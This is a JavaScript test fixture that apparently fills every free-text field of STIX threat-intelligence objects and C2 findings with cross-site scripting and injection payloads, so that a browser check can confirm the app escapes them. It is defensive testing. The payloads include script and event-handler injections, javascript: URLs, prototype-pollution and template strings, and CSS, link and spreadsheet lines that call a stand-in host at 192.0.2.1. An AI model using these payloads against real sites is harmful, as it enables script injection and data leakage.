// Texts that try to become markup, script or style wherever they are shown, and objects that carry
// one of them in every field that takes free text.
//
// Each payload that runs calls noroshiComplains or opens a dialog, or asks another host: the watch
// over the browser (browser.mjs) sees all three.

const call = "noroshiComplains('ran')";

export const payloads = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<svg onload="${call}">`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style></math><img src onerror="${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">click</a>`,
  `<a href="&#106;avascript:${call}">click</a>`,
  `<form action="javascript:${call}"><button autofocus onfocus="${call}">x</button></form>`,
  `<input autofocus onfocus="${call}">`,
  `<details open ontoggle="${call}">`,
  `<video><source onerror="${call}"></video>`,
  `<body onload="${call}">`,
  `<style>*{background:url(https://192.0.2.1/leak)}</style>`,
  `<link rel=stylesheet href="https://192.0.2.1/leak.css">`,
  `<base href="https://192.0.2.1/">`,
  `<meta http-equiv=refresh content="0;url=https://192.0.2.1/">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `"><script>${call}</script>`,
  `" onmouseover="${call}" x="`,
  `' onfocus='${call}' autofocus x='`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `\${${call}}`,
  `{{constructor.constructor("${call}")()}}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `__proto__`,
  `constructor`,
  `]]><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `\u202e)(trela\u202c<script>${call}</script>`,
  `\u2028${call}\u2029`,
  `＜script＞${call}＜/script＞`,
  `=HYPERLINK("https://192.0.2.1/","x")`,
  `@import "https://192.0.2.1/x.css"`,
  `expression(${call})`,
];

let turn = 0;
/** The next payload, round and round: every field gets one, every payload its turn. */
function next() { return payloads[turn++ % payloads.length]; }

function uuid(n) { return `00000000-0000-4000-8000-${n.toString(16).padStart(12, "0")}`; }

const phases = () => [{kill_chain_name: next(), phase_name: next()}];
const aliases = () => [next(), next()];

/** Free texts of each type of domain object beyond name, description, labels and references. */
const domainObjects = {
  "attack-pattern": () => ({aliases: aliases(), kill_chain_phases: phases()}),
  campaign: () => ({aliases: aliases(), objective: next()}),
  "course-of-action": () => ({}),
  grouping: (ids) => ({context: next(), object_refs: ids}),
  identity: () => ({roles: aliases(), identity_class: next(), sectors: aliases(), contact_information: next()}),
  incident: () => ({}),
  indicator: () => ({
    indicator_types: aliases(), kill_chain_phases: phases(), pattern_type: "stix", valid_from: "2026-01-02T00:00:00Z",
    pattern: `[file:name = '${next().replaceAll("\\", "\\\\").replaceAll("'", "\\'")}']`,
  }),
  infrastructure: () => ({infrastructure_types: aliases(), aliases: aliases(), kill_chain_phases: phases()}),
  "intrusion-set": () => ({aliases: aliases(), goals: aliases(), resource_level: next(), primary_motivation: next()}),
  location: () => ({region: next(), country: next(), city: next(), street_address: next(), postal_code: next()}),
  malware: () => ({is_family: true, malware_types: aliases(), aliases: aliases(), capabilities: aliases()}),
  "malware-analysis": () => ({product: next(), version: next(), result: next(), result_name: next(), modules: aliases()}),
  note: (ids) => ({abstract: next(), content: next(), authors: aliases(), object_refs: ids}),
  opinion: (ids) => ({explanation: next(), authors: aliases(), opinion: "strongly-disagree", object_refs: ids}),
  report: (ids) => ({report_types: aliases(), published: "2026-01-02T00:00:00Z", object_refs: ids}),
  "threat-actor": () => ({threat_actor_types: aliases(), aliases: aliases(), roles: aliases(), goals: aliases()}),
  tool: () => ({tool_types: aliases(), aliases: aliases(), tool_version: next()}),
  vulnerability: () => ({}),
};
const nameless = new Set(["note", "opinion", "malware-analysis"]);

const observables = {
  artifact: () => ({mime_type: "text/html", url: "javascript:alert(1)", hashes: {"SHA-256": "0".repeat(64)}}),
  directory: () => ({path: next()}),
  "email-message": () => ({is_multipart: false, subject: next(), body: next(), message_id: next()}),
  file: () => ({name: next(), mime_type: next()}),
  mutex: () => ({name: next()}),
  process: () => ({command_line: next(), cwd: next()}),
  software: () => ({name: next(), vendor: next(), version: next()}),
  url: () => ({value: "javascript:noroshiComplains('ran')"}),
  "user-account": () => ({user_id: next(), account_login: next(), display_name: next(), account_type: next()}),
  "windows-registry-key": () => ({key: next(), values: [{name: next(), data: next()}]}),
  "x509-certificate": () => ({issuer: next(), subject: next(), serial_number: next()}),
};

/** One object of each type, free texts hostile throughout, and relationships between them. */
export function hostileObjects() {
  let n = 1;
  const stamp = {spec_version: "2.1", created: "2026-01-02T00:00:00.000Z", modified: "2026-01-02T00:00:00.000Z"};
  const made = Object.entries(observables).map(([type, texts]) =>
    ({type, spec_version: "2.1", id: `${type}--${uuid(n++)}`, ...texts()}));
  const ids = made.slice(0, 3).map((one) => one.id);
  for (const [type, texts] of Object.entries(domainObjects)) {
    made.push({
      type, ...stamp, id: `${type}--${uuid(n++)}`,
      ...(nameless.has(type) ? {} : {name: next(), description: next()}),
      labels: aliases(), lang: "en",
      external_references: [{source_name: next(), description: next(), url: "javascript:alert(1)", external_id: next()}],
      ...texts(ids),
    });
  }
  const domain = made.filter((one) => one.created !== undefined);
  for (let i = 1; i < domain.length; ++i) {
    made.push({
      type: "relationship", ...stamp, id: `relationship--${uuid(n++)}`, relationship_type: "related-to",
      description: next(), source_ref: domain[0].id, target_ref: domain[i].id,
    });
  }
  return made;
}

/** Findings whose every text is hostile. */
export function hostileFindings() {
  return payloads.map((payload, i) => ({
    kind: "c2-server", subject: {ip: `203.0.113.${i + 1}`, port: 6667, proto: "tcp"}, probability: 0.9, prior: -11.5,
    first_seen: "2026-01-14T00:00:00Z", last_seen: "2026-01-14T12:00:00Z", clients: 7, contacts: 70,
    evidence: [
      {name: payload, value: 1, unit: payload, weight: 9, text: payload, counts: {[payload]: 3}},
      {name: "periodic_contact", value: 300, unit: "s", weight: 4.7, text: payload, counts: {clients: 7}},
    ],
    method: "noroshi.c2.hunt", version: payload, innocent: payload,
  }));
}
